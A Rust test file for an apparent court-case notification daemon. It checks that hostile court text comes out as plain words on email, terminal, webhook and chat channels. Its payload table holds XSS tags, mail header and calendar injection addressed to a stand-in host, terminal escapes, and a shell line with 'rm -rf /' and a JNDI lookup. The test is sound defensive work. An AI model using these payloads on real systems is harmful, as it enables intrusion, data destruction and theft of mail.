//! What a hostile court writes, through every channel: the bytes of each message are read by somebody else's reader, and must say
//! nothing but words.
//!
//! One table of texts, one of channels. What the daemon prints and serves besides is in `tests/it/stories/hostile.rs`, with texts of the
//! same kinds.

use std::collections::BTreeSet;

use jiff::tz::TimeZone;
use mail_parser::{MessageParser, MimeHeaders};
use scraper::Html;
use serde_json::Value;

use super::chat::Chat;
use super::{Channel, Smtp, Tls, Webhook, render, render_digest};
use crate::domain::about::{About, Language, Stop};
use crate::domain::case::Watch;
use crate::domain::digest::{Digest, Part};
use crate::domain::event::{Event, EventKind};
use crate::domain::medium::Service;
use crate::domain::reach::Reach;
use crate::domain::redact::is_invisible;
use crate::domain::sample;
use crate::domain::timing::Period;

/// Where every link of a court's leads that is none of ours.
const BAD_HOST: &str = "mal.example";

/// What a court may write, by what it tries.
fn texts() -> Vec<(&'static str, String)> {
    let controls: String = (0..0xa0).filter_map(char::from_u32).filter(|c| c.is_control()).collect();
    let invisible: String = (0x80..0x11_0000).filter_map(char::from_u32).filter(|c| is_invisible(*c)).collect();
    let of = |name, text: &str| (name, text.to_owned());
    vec![
        of(
            "scripts",
            "<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)></style></title><iframe src=//mal.example>",
        ),
        of("attributes", "\" onmouseover=\"alert(1)\" x='</a><a href=\"javascript:alert(1)\">clic</a><base href=//mal.example>"),
        of("entities", "&lt;script&gt; &amp;lt; &#60;img src=x&#62; &#x202e; &nbsp;"),
        of("overrides", "AUTO \u{202e}OTUELSBA\u{202c} \u{2066}NO\u{2069} \u{200f}\u{61c} fin"),
        ("controls", format!("AUTO {controls} fin")),
        ("invisible", format!("AUTO {invisible} fin")),
        of("nul", "AUTO\0DE\0LLAMAMIENTO"),
        of(
            "header lines",
            "AUTO\r\nBcc: robado@mal.example\r\nX-Mal: 1\r\n\r\n<html>\nContent-Type: text/html\n\n--=_x\n.\r\nMAIL FROM:<x>",
        ),
        of("calendar lines", "2\r\nATTENDEE:mailto:robado@mal.example\r\nEND:VEVENT\nBEGIN:VALARM\\nACTION:EMAIL;X=1,2:\"3\""),
        of("encoded words", "=?utf-8?q?Bcc:_robado=40mal.example?= =?utf-8?b?QmNjOg==?="),
        ("a long word", "w".repeat(1 << 20)),
        ("a long wide word", "Ñ😀".repeat(1 << 12)),
        ("marks", format!("A{}UTO", "\u{301}".repeat(10_000))),
        of("json", "\"},{\"type\":\"ruling.issued\",\"data\":{\"id\":\"\\u0000\\\\\\\"]}] // */ \u{fffe}"),
        of(
            "markdown",
            "**no** __x__ ~~nunca~~ `x` ```y``` [pague](https://mal.example/) ![i](https://mal.example/i.png) ||z||\n# uno\n> dos\n- tres",
        ),
        of("mentions", "<!channel> <!here|x> <@U012AB3CD> <#C01> <@&12> @everyone @here @channel @all @room @todos <at>mesa</at>"),
        of("links of slack", "<https://mal.example/|https://www.funcionjudicial.gob.ec> <mailto:x@mal.example|mesa>"),
        of("markdown v2", "_*[]()~`>#+-=|{}.!\\ [x](tg://user?id=1) </b></blockquote><a href=\"https://mal.example/\">x</a>"),
        of("a terminal", "\u{1b}[2J\u{1b}]0;titulo\u{7}\u{1b}]8;;https://mal.example\u{7}banco\u{1b}]8;;\u{7}\u{9b}31m\u{8}\u{8}\r"),
        of("a shell", "$(touch /tmp/x) `id` ; rm -rf / & | > x %s %n {0} ${jndi:ldap://mal.example} {{ number }} {% x %}"),
    ]
}

/// Events of every shape with this text wherever a court has a say.
fn events(evil: &str) -> Vec<Event> {
    let mut invited = sample::invited();
    if let Some(hearing) = &mut invited.hearing {
        (hearing.mention.room, hearing.mention.kind) = (Some(evil.into()), Some(evil.into()));
        hearing.mention.platform = Some(evil.into());
        for appointment in &mut hearing.appointments {
            (appointment.room, appointment.kind) = (Some(evil.into()), Some(evil.into()));
        }
    }
    if let Some(entry) = &mut invited.entry {
        entry.excerpt = evil.into();
    }
    let mut party = sample::party();
    let mut field = sample::bare(EventKind::CaseFieldChanged);
    for event in [&mut party, &mut field] {
        let mut change = sample::party().field.expect("a party is a field");
        (change.before, change.after) = (Some(format!("antes {evil}")), Some(evil.into()));
        change.field = if event.kind == EventKind::PartyChanged { format!("party.{evil}") } else { evil.into() };
        event.field = Some(change);
    }
    vec![sample::hostile_in(evil), invited, party, field]
}

fn channels() -> Vec<(&'static str, Channel)> {
    let smtp = Smtp {
        host: "localhost".into(),
        port: 25,
        tls: Tls::None,
        user: None,
        password: None,
        token: None,
        ca: None,
        from: "Vigilancia <veedor@example.org>".into(),
        id_domain: None,
        calendar_domain: None,
    };
    let chat = |service| Chat { service, url: "https://chat.example.org/x".into(), token: None, room: None, reach: Reach::default() };
    // A program gets the bytes of a webhook.
    let mut all = vec![("webhook", Channel::Webhook(Webhook::default())), ("mail", Channel::Email(smtp)), ("terminal", Channel::Terminal)];
    all.extend(Service::ALL.iter().map(|service| (service.medium().name(), Channel::Chat(chat(*service)))));
    all
}

fn about(watch: &Watch, language: Language) -> About<'_> {
    let stop = Stop::Links { mute: Some("https://veedor.example.org/u/a".into()), leave: "https://veedor.example.org/u/b".into() };
    About { stop, ..sample::about(watch, language) }
}

/// Every message that a channel makes of these events: all together where it gathers, and as a digest; else each by itself.
fn messages(channel: &Channel, events: &[Event], watch: &Watch) -> Vec<Vec<u8>> {
    let about = about(watch, Language::Es);
    let made = |events: &[Event]| {
        let delivery = sample::delivery("mesa@example.net", events);
        render(channel, &delivery, events, &about).expect("it is worded").body
    };
    if matches!(channel, Channel::Webhook(_) | Channel::Command(_)) {
        return events.iter().map(|event| made(std::slice::from_ref(event))).collect();
    }
    let mut all = vec![made(events)];
    let part = Part { events: about.show(events), about: about.clone() };
    let zone = TimeZone::get("America/Guayaquil").expect("bundled");
    let mut digest = Digest { period: Period::Hourly, at: sample::seen_at(), zone, parts: vec![part] };
    digest.sort();
    all.push(render_digest(channel, &sample::delivery("mesa@example.net", events), &digest).expect("it is worded").body);
    all
}

/// Every string of a JSON value, names and values.
fn strings(value: &Value, into: &mut Vec<String>) {
    match value {
        Value::String(text) => into.push(text.clone()),
        Value::Array(list) => list.iter().for_each(|item| strings(item, into)),
        Value::Object(map) => map.iter().for_each(|(name, item)| {
            into.push(name.clone());
            strings(item, into);
        }),
        _ => {}
    }
}

/// Nothing that is not seen, but for line ends and the sign that we put behind an @ ourselves.
fn shows_all(text: &str, of: &str) {
    let text = text.replace("@\u{200b}", "@");
    let hidden = text.chars().find(|c| is_invisible(*c) && *c != '\n');
    assert!(hidden.is_none(), "{of}: {hidden:?} in {:?}", text.chars().take(600).collect::<String>());
    let mut marks = 0;
    for c in text.chars() {
        marks = if unicode_normalization::char::is_combining_mark(c) { marks + 1 } else { 0 };
        assert!(marks < 10, "{of}: marks are heaped");
    }
}

/// HTML as a browser's parser reads it: which elements there are, where links lead, and no attribute that does anything.
fn elements(html: &str, of: &str) -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for element in Html::parse_document(html).tree.values().filter_map(|node| node.as_element()) {
        names.insert(element.name().to_owned());
        for (name, value) in element.attrs() {
            assert!(!name.starts_with("on") && !value.contains("javascript:") && !value.contains(BAD_HOST), "{of}: {name}={value}");
        }
    }
    names
}

/// No name of a group or person behind an @ that a program would call.
fn calls_nobody(text: &str, of: &str) {
    for name in ["everyone", "here", "channel", "all", "room", "todos"] {
        assert!(!text.contains(&format!("@{name}")), "{of}: {text}");
    }
}

/// No mark of Markdown that is not escaped, but for those of our own.
fn links_nowhere(markdown: &str, of: &str) {
    for (at, _) in markdown.match_indices("](") {
        let target = markdown[at + 2..].split(')').next().unwrap_or_default();
        assert!(markdown[..at].ends_with('\\') || !target.contains(BAD_HOST), "{of}: a link to {target}");
    }
    for (at, _) in markdown.match_indices(['<', '`']) {
        assert!(markdown[..at].ends_with('\\'), "{of}: {}", &markdown[at..].chars().take(60).collect::<String>());
    }
}

fn is_sound(channel: &str, bytes: &[u8], harmless: &[u8], of: &str) {
    match channel {
        "terminal" => {
            let text = std::str::from_utf8(bytes).expect("text");
            shows_all(text, of);
            assert!(bytes.len() <= 60_000, "{of}: {}", bytes.len());
        }
        "mail" => mail(bytes, harmless, of),
        _ => {
            let body: Value = serde_json::from_slice(bytes).unwrap_or_else(|error| panic!("{of}: {error}"));
            let mut all = Vec::new();
            strings(&body, &mut all);
            all.iter().for_each(|text| shows_all(text, of));
            assert!(bytes.len() <= 64 << 10, "{of}: {}", bytes.len());
            let harmless: Value = serde_json::from_slice(harmless).expect("JSON");
            assert_eq!(names(&body), names(&harmless), "{of}: other keys than a harmless message of its kind");
            chat(channel, &body, &all, of);
        }
    }
}

/// The keys of the outermost object.
fn names(value: &Value) -> BTreeSet<&str> {
    value.as_object().into_iter().flat_map(|map| map.keys().map(String::as_str)).collect()
}

fn chat(channel: &str, body: &Value, all: &[String], of: &str) {
    let every = |name: &str| -> Vec<String> {
        let mut found = Vec::new();
        find(body, name, &mut found);
        found
    };
    for url in ["url", "href", "click", "titleUrl", "title_link"].iter().flat_map(|name| every(name)) {
        assert!(!url.contains(BAD_HOST), "{of}: a link to {url}");
    }
    match channel {
        "slack" => {
            // What is parsed is the line for notifications; all else are typed runs.
            let line = body["text"].as_str().expect("a text");
            assert!(!line.contains('<'), "{of}: {line}");
            calls_nobody(line, of);
            let kinds: BTreeSet<String> = every("type").into_iter().collect();
            let known = ["header", "context", "rich_text", "rich_text_section", "rich_text_quote", "divider", "text", "link", "plain_text"];
            assert!(kinds.iter().all(|kind| known.contains(&kind.as_str())), "{of}: {kinds:?}");
        }
        "teams" => {
            let kinds: BTreeSet<String> = every("type").into_iter().collect();
            // A TextBlock and a fact are read as Markdown, a run is not.
            assert!(!kinds.iter().any(|kind| kind == "TextBlock" || kind == "FactSet" || kind == "mention"), "{of}: {kinds:?}");
        }
        "discord" | "mattermost" => {
            // What stands in "fallback" is shown as it is.
            let mut words = Vec::new();
            all.iter().for_each(|text| calls_nobody(text, of));
            for name in ["content", "text", "title", "description", "value", "pretext"] {
                words.extend(every(name));
            }
            assert!(!words.is_empty(), "{of}: {body}");
            words.iter().for_each(|text| links_nowhere(text, of));
            if channel == "discord" {
                assert_eq!(body["allowed_mentions"], serde_json::json!({"parse": []}), "{of}");
            }
        }
        "telegram" => {
            let html = body["text"].as_str().expect("a text");
            let names = elements(html, of);
            let known = ["html", "head", "body", "a", "b", "i", "s", "u", "blockquote", "code"];
            assert!(names.iter().all(|name| known.contains(&name.as_str())), "{of}: {names:?}");
            calls_nobody(html, of);
        }
        "matrix" => {
            assert_eq!(body["m.mentions"], serde_json::json!({}), "{of}");
            let names = elements(body["formatted_body"].as_str().expect("a text"), of);
            let unknown = ["script", "img", "iframe", "svg", "style", "base", "title", "at", "object"];
            assert!(!names.iter().any(|name| unknown.contains(&name.as_str())), "{of}: {names:?}");
            all.iter().for_each(|text| calls_nobody(text, of));
        }
        "ntfy" => assert!(body.get("markdown").is_none() && body.get("actions").is_none() && body.get("attach").is_none(), "{of}"),
        _ => {}
    }
}

/// Every text under this name, however deep.
fn find(value: &Value, name: &str, into: &mut Vec<String>) {
    match value {
        Value::Array(list) => list.iter().for_each(|item| find(item, name, into)),
        Value::Object(map) => map.iter().for_each(|(key, item)| match item {
            Value::String(text) if key == name => into.push(text.clone()),
            item => find(item, name, into),
        }),
        _ => {}
    }
}

fn mail(bytes: &[u8], harmless: &[u8], of: &str) {
    assert!(bytes.is_ascii() && !bytes.contains(&0) && bytes.len() <= 400_000, "{of}: {}", bytes.len());
    assert!(bytes.split(|byte| *byte == b'\n').all(|line| line.len() <= 998), "{of}: a line is too long");
    let text = std::str::from_utf8(bytes).expect("ASCII");
    let (ends, lines, returns) = (text.matches("\r\n").count(), text.matches('\n').count(), text.matches('\r').count());
    assert_eq!((ends, ends), (lines, returns), "{of}: bare line ends");
    let (mail, like) = (MessageParser::default().parse(bytes).expect("a mail"), MessageParser::default().parse(harmless).expect("a mail"));
    let headers =
        |mail: &mail_parser::Message<'_>| -> Vec<String> { mail.headers().iter().map(|header| header.name().to_owned()).collect() };
    assert_eq!(headers(&mail), headers(&like), "{of}: other headers than a harmless mail of its kind");
    assert_eq!(mail.parts.len(), like.parts.len(), "{of}: other parts");
    assert_eq!(mail.to().and_then(|to| to.first()).and_then(|to| to.address()), Some("mesa@example.net"), "{of}");
    let subject = mail.subject().expect("a subject");
    shows_all(subject, of);
    assert!(subject.chars().count() <= 150 && !subject.contains('\n'), "{of}: {subject}");
    let words = mail.body_text(0).expect("a text");
    shows_all(&words.replace("\r\n", "\n"), of);
    let html = mail.body_html(0).expect("HTML");
    shows_all(&html.replace("\r\n", "\n"), of);
    let (here, there) = (elements(&html, of), elements(&like.body_html(0).expect("HTML"), of));
    let more: Vec<&String> =
        here.difference(&there).filter(|name| !["ins", "del", "strong", "a", "p", "blockquote"].contains(&name.as_str())).collect();
    assert!(more.is_empty(), "{of}: {more:?}");
    for part in mail.parts.iter().filter(|part| part.content_type().is_some_and(|kind| kind.subtype() == Some("calendar"))) {
        calendar(std::str::from_utf8(part.contents()).expect("text"), of);
    }
}

/// Its lines, unfolded as RFC 5545 says: our names, each as often as it may be, and nobody invited.
fn calendar(text: &str, of: &str) {
    assert!(text.split("\r\n").all(|line| line.len() <= 75), "{of}: a line is too long");
    let unfolded = text.replace("\r\n ", "");
    assert!(!unfolded.replace("\r\n", "").contains(['\r', '\n']), "{of}: bare line ends");
    for line in unfolded.lines() {
        let name = line.split([':', ';']).next().unwrap_or_default();
        assert!(!["ATTENDEE", "ATTACH", "ACTION"].contains(&name), "{of}: {line}");
        shows_all(line, of);
    }
    let count = |line: &str| unfolded.lines().filter(|other| *other == line).count();
    assert_eq!((count("BEGIN:VEVENT"), count("END:VEVENT"), count("BEGIN:VALARM")), (1, 1, 0), "{of}");
}

#[test]
fn whatever_a_court_writes_every_channel_says_it_as_words() {
    let mut plain_watch = sample::watch();
    plain_watch.formal_name = Some("Un nombre".into());
    let like = events("Una palabra.");
    let texts = texts();
    for (name, channel) in channels() {
        let harmless = messages(&channel, &like, &plain_watch);
        for (what, evil) in &texts {
            let watch = Watch { formal_name: Some(evil.clone()), ..sample::watch() };
            let hostile = events(evil);
            for (nth, bytes) in messages(&channel, &hostile, &watch).into_iter().enumerate() {
                is_sound(name, &bytes, &harmless[nth], &format!("{what}, {name}, message {nth}"));
            }
        }
    }
}
